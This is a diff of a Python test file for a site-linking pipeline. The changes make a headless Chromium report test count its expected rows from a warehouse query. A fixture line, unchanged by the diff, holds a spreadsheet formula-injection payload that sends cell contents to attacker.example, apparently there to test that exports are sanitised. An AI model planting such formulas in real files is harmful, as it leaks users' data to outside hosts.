@@ -6,6 +6,7 @@ import polars as pl
 import pytest
 
 from interlink_pipeline.core import exports
+from interlink_pipeline.core.report import TOP_OPPORTUNITIES
 from interlink_pipeline_tests.conftest import LIGHT, chromium_path, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
@@ -82,8 +83,16 @@ def test_a_sheet_past_the_row_limit_continues_on_the_next(tmp_path, monkeypatch)
     assert not list(tmp_path.glob(".*partial"))
 
 
-def test_the_report_draws_its_charts_in_headless_chromium_without_network(planned_site, tmp_path):
+def test_the_report_draws_its_charts_in_headless_chromium_without_network(
+    planned_site, warehouse_path, tmp_path
+):
     from playwright.sync_api import sync_playwright
+
+    with duckdb.connect(str(warehouse_path), read_only=True) as con:
+        shown = con.execute(
+            "SELECT least(count(*), ?) FROM marts.link_opportunities WHERE reason <> 'hub'",
+            [TOP_OPPORTUNITIES],
+        ).fetchone()[0]
 
     report = planned_site / "report.html"
     requested = []
@@ -114,5 +123,5 @@ def test_the_report_draws_its_charts_in_headless_chromium_without_network(planne
     assert requested == []  # everything the page needs is in the file
     assert drawn["points"] >= 90 and drawn["topics"] >= 2  # the kept pages, coloured by topic
     assert drawn["depth bars"] >= 6 and drawn["health bars"] == 4  # before and after
-    assert drawn["slices"] >= 2 and drawn["rows"] == 50
+    assert drawn["slices"] >= 2 and drawn["rows"] == shown > 0  # the most probable links, at most 50
     assert len(shot) > 100_000  # a page of drawn charts, not a blank one
